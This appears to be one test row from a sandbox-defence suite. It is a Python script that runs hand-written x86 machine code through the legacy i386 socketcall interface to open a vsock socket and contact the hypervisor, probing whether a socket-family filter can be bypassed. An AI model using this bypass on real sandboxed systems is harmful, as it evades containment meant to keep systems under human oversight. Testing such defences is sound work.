# SPDX-License-Identifier: GPL-2.0-or-later
# row: D3
# what: a socket that i386's socketcall makes
# defences: socket_families
# arrives: answer
import ctypes
import mmap
import os
import platform
import socket
import struct

from attempt import ask_hypervisor, cannot

MAP_32BIT, SOCKETCALL, SYS_SOCKET = 0x40, 102, 1
AF_VSOCK = 40
if platform.machine() != "x86_64":
    cannot("not x86-64")
# push rbx; mov eax, 102; mov ebx, edi; mov ecx, esi; int 0x80; pop rbx; ret
CODE = b"\x53\xb8" + struct.pack("=I", SOCKETCALL) + b"\x89\xfb\x89\xf1\xcd\x80\x5b\xc3"
page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                 mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page[:len(CODE)] = CODE
page[2048:2060] = struct.pack("=III", AF_VSOCK, socket.SOCK_STREAM, 0)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(start)
made = call(SYS_SOCKET, start + 2048)
if made < 0:
    cannot(f"socketcall: {os.strerror(-made)}")
ask_hypervisor(socket.socket(AF_VSOCK, socket.SOCK_STREAM, 0, made))
